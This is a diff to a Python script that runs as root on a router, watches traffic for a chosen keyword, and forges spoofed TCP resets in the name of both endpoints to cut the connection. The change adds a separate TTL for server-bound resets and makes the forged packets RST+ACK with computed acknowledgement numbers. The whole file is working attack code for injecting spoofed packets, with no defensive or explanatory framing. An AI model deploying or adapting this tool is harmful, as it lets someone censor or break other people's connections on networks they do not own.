@@ -1,4 +1,4 @@
-# python3 device.py INTERFACE WORD [--ttl N,N…] [--to client|server|both] [--seq OFFSET]
+# python3 device.py INTERFACE WORD [--ttl N,N…] [--ttl-server N,N…] [--to client|server|both] [--seq OFFSET]
 # Stands on a router: as soon as a packet with WORD passes the interface, it sends resets in the name of both ends.
 # Root; Linux (packet(7), raw(7)).
 import argparse
@@ -9,6 +9,7 @@ parser = argparse.ArgumentParser()
 parser.add_argument("interface")
 parser.add_argument("word")
 parser.add_argument("--ttl", default="64", help="of the resets; one is sent for each")
+parser.add_argument("--ttl-server", help="of those to the server, where they differ")
 parser.add_argument("--to", choices=["client", "server", "both"], default="both")
 parser.add_argument("--seq", type=int, default=0, help="how far the sequence numbers are off")
 options = parser.parse_args()
@@ -26,10 +27,10 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def reset(source, source_port, target, target_port, seq, ttl):
-    """An RST without options or ACK, with an IP identification of 0 (RFC 9293 3.1, RFC 791 3.1)."""
+def reset(source, source_port, target, target_port, seq, ack, ttl):
+    """RST and ACK without options, with an IP identification of 0 (RFC 9293 3.1, RFC 791 3.1)."""
     ports = struct.pack("!HH", source_port, target_port)
-    tcp = ports + struct.pack("!IIBBHHH", seq & 0xFFFFFFFF, 0, 5 << 4, 4, 0, 0, 0)
+    tcp = ports + struct.pack("!IIBBHHH", seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, 4 | 16, 0, 0, 0)
     pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
     tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, ttl, socket.IPPROTO_TCP, 0, source, target)
@@ -45,9 +46,11 @@ while True:
     source, target = packet[12:16], packet[16:20]
     source_port, target_port, seq, ack = struct.unpack("!HHII", packet[start : start + 12])
     length = struct.unpack("!H", packet[2:4])[0] - start - (packet[start + 12] >> 4) * 4
-    for ttl in [int(one) for one in options.ttl.split(",")]:
-        if options.to != "server":
-            reset(target, target_port, source, source_port, ack + options.seq, ttl)
-        if options.to != "client":
-            reset(source, source_port, target, target_port, seq + length + options.seq, ttl)
-    print("hung up in the name of both", flush=True)
+    after = seq + length
+    if options.to != "server":
+        for ttl in options.ttl.split(","):
+            reset(target, target_port, source, source_port, ack + options.seq, after, int(ttl))
+    if options.to != "client":
+        for ttl in (options.ttl_server or options.ttl).split(","):
+            reset(source, source_port, target, target_port, after + options.seq, ack, int(ttl))
+    print("hung up in their names", flush=True)
